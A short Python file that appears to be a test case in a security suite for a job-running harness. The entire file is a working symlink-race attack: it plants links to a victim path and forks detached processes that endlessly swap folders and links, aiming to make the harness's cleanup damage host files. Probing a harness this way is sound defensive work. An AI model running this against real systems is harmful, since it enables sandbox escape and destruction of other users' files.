# 104 folder_renames
# attempts: to swap folders with links to the host without pause, while podium-run ends the stage,
#   opens the next one and removes the job's folder. Processes in their own sessions do this
# required: VERDICT
# needs: files
# mode: ranked
import ctypes
import os
from attack import custom_kernel, libc

EXCHANGE, HERE = 2, -100
CACHE = os.path.dirname(os.environ["TRITON_CACHE_DIR"])


def exchange(first, second):
    return libc.renameat2(HERE, first.encode(), HERE, second.encode(), EXCHANGE)


def furnish(place):
    for name in ("folder", "folder/inner", "triton", "cuda"):
        os.makedirs(f"{place}/{name}", exist_ok=True)
    for name, target in (("link", "@VICTIM@/open"), ("folder/link", "@VICTIM@"), ("other", "..")):
        os.symlink(target, f"{place}/{name}")


for place in (".", CACHE, os.environ["HOME"], os.environ["TMPDIR"]):
    try:
        furnish(place)
    except OSError:
        continue
    if os.fork() == 0:
        os.setsid()
        while True:
            for pair in (("folder", "link"), ("triton", "other"), ("folder/inner", "cuda"), ("../home", "folder"), ("../tmp", "link"),
                         ("../run", "other"), ("link/inner", "folder/link")):
                exchange(f"{place}/{pair[0]}", f"{place}/{pair[1]}")
